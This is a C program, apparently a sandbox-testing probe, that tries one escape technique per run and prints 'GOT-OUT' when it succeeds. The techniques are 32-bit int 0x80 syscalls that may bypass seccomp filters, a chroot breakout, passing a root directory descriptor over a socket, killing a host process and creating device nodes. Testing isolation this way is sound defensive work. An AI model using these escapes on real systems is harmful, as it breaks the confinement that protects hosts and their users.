/* Attempts that need C. Takes the name of one and the number of a process of the host. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void out(const char *what) { printf("GOT-OUT %s\n", what); fflush(stdout); }

/* The calls of a 32-bit program have other numbers, and pointers must lie low. */
static long call32(long number, long a, long b, long c, long d, long e) {
#ifdef __x86_64__
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
  return result;
#else
  return -1;
#endif
}

static char *low(const char *text) {
  char *page = mmap((void *)0x10000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  strcpy(page, text);
  return page;
}

static void passing(void) {
  int pair[2];
  char data[64], control[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec part = {data, 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return;
  if (fork() == 0) {
    int root = open("/", O_PATH | O_DIRECTORY);
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &root, sizeof(int));
    sendmsg(pair[1], &message, 0);
    _exit(0);
  }
  if (recvmsg(pair[0], &message, 0) < 0) return;
  int root;
  memcpy(&root, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(int));
  if (openat(root, "../../root", O_RDONLY) >= 0 || openat(root, "../../home", O_RDONLY) >= 0) out("a home directory");
  wait(NULL);
}

int main(int count, char **words) {
  if (count < 3) return 2;
  const char *name = words[1];
  int pid = atoi(words[2]);
  setvbuf(stdout, NULL, _IONBF, 0);
  puts("TRIED-IT");
  if (!strcmp(name, "mount32")) {
    char *text = low("tmpfs");
    char *place = text + 64;
    strcpy(place, "/tmp");
    if (call32(21, (long)text, (long)place, (long)text, 0, 0) == 0) out(name);
  } else if (!strcmp(name, "unshare32")) {
    if (call32(310, 0x10000000, 0, 0, 0, 0) == 0) out(name);
  } else if (!strcmp(name, "socket32")) {
    if (call32(359, AF_UNIX, SOCK_STREAM, 0, 0, 0) >= 0) out(name);
  } else if (!strcmp(name, "chroot")) {
    int root = open("/", O_RDONLY);
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") == 0 && fchdir(root) == 0) {
      for (int i = 0; i < 64; i++) if (chdir("..")) break;
      if (chroot(".") == 0) out(name);
    }
  } else if (!strcmp(name, "passing")) {
    passing();
  } else if (!strcmp(name, "kill")) {
    if (kill(pid, SIGKILL) == 0 || kill(-pid, SIGKILL) == 0) out(name);
  } else if (!strcmp(name, "device")) {
    if (mknod("/tmp/d", S_IFBLK | 0600, makedev(254, 0)) == 0 || mknod("/tmp/c", S_IFCHR | 0600, makedev(1, 1)) == 0) out(name);
  }
  return 0;
}
